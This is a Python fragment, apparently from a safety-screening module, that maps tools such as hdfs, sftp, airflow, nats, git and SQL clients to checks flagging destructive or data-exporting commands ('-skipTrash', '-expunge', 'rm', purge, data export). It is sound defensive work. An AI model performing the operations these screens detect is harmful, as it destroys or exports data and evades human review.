SCREENS["git"] = lambda text: "lfs" in text and "push" in text  # (_lfs_push)
SCREENS["nats"] = mentions("delete", "purge", words=("rm", "del"))
SCREENS["hdfs"] = SCREENS["hadoop"] = mentions("-skipTrash", "-expunge")
# _warehouse_sql: the words sql.privilege, sql.data_export and shops.site_admin look for (the clients other modules
# screen too)
for _name in _sql_clients():
    SCREENS[_name] = lambda text: sql.sql_hint(text) or SITE_ADMIN_HINT.search(text) is not None
SCREENS["airflow"] = mentions("clean", "delete")
SCREENS["sftp"] = mentions("rm")  # _sftp_batch: a batch's `rm`/`rmdir`, in the text of this input
SCREENS["sentry-cli"] = mentions("delete")
